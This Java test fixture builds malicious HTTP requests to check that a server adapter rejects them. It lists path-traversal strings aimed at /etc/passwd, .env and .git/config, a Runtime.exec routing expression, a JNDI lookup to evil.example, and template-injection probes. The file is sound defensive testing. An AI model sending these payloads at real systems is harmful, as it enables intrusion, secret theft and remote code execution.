package dev.portolan.adapter.http;

import java.util.ArrayList;
import java.util.List;

/** Requests in order that want to be at a function, a file or a line of code where they may not. */
final class BadPaths {
  private BadPaths() {}

  /** Ways to {@code /echo}, or past it, that are other paths. */
  static List<BadRequest> elsewhere() {
    List<BadRequest> all = new ArrayList<>();
    for (String path :
        List.of(
            "/static/../../etc/passwd",
            "/echo/../etc/passwd",
            "/echo/..",
            "/../echo",
            "/./echo",
            "/%2e/echo",
            "/%2e%2e/echo",
            "/..%2fecho",
            "/%2fecho",
            "/x/%2e%2e%2fecho",
            "/..\\echo",
            "/%5c..%5cecho",
            "/%252e%252e/echo",
            "/%2565cho",
            "//echo",
            "/echo/",
            "/echo//",
            "/echo%2f",
            "/echo;a=b",
            "/echo%3f",
            "/echo%23",
            "/echo%20",
            "/echo.",
            "/echo.json",
            "/ECHO",
            "/ech%C3%B6",
            "/WEB-INF/web.xml",
            "/META-INF/portolan/functions.json",
            "/dev/portolan/adapter/http/Witness.class",
            "/CON",
            "/aux.txt",
            "/.git/config",
            "/.env",
            "/proc/self/environ",
            "/C:/Windows/win.ini",
            "/.well-known/portolan/../../echo",
            "/.well-known/portolan/ready/",
            "/.well-known/portolan/READY",
            "/.well-known/portolan/ready%20",
            "/.well-known/portolan/invoke")) {
      all.add(new BadRequest("path " + path, get(path, ""), 404));
    }
    return all;
  }

  /** Headers that other servers let say what is called, and how. */
  static List<BadRequest> misleading() {
    List<BadRequest> all = new ArrayList<>();
    for (String header :
        List.of(
            "X-Portolan-Function: other",
            "PORTOLAN_FUNCTION: other",
            "function.name: other",
            "spring.cloud.function.definition: a|b|c",
            "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"x\")",
            "X-HTTP-Method-Override: DELETE",
            "X-Original-URL: /admin",
            "X-Rewrite-URL: /admin",
            "X-Forwarded-Host: evil.example",
            "X-Forwarded-Prefix: /../..",
            "X-Sent: ${jndi:ldap://evil.example/a}",
            "X-Sent: #{7*7} %{7*7} {{7*7}}",
            "Content-Type: application/x-java-serialized-object",
            "Content-Type: %{(#a='multipart/form-data')}",
            "Content-Encoding: gzip",
            "Range: bytes=0-0,0-0,0-0,0-0",
            "Cookie: $Version=1; a=\"b; c=d",
            "X-Request-Id: ../../etc/passwd",
            "X-Request-Id: " + "a".repeat(1000),
            "traceparent: 00-zz-zz-zz",
            "traceparent: " + "0".repeat(1000))) {
      all.add(new BadRequest(header, get("/echo", header + "\r\n"), 200));
    }
    for (String name : List.of("__class__", "x-" + "a".repeat(8000), "X-Sent")) {
      all.add(new BadRequest("three of " + name, get("/echo", (name + ": a\r\n").repeat(3)), 200));
    }
    return all;
  }

  private static String get(String path, String headers) {
    return "GET " + path + " HTTP/1.1\r\n" + BadRequest.HOST + headers + "\r\n";
  }
}
